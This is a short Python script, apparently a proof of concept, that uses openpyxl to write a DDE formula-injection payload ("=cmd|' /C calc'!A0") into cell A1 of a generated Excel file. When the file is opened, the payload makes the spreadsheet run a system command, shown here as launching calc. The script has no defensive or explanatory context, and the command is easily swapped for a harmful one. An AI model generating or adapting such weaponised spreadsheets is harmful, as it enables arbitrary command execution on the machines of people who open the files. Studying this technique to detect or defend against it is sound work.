from openpyxl import Workbook
wb = Workbook()
wb.active["A1"] = "=cmd|' /C calc'!A0"
wb.save("x.xlsx")
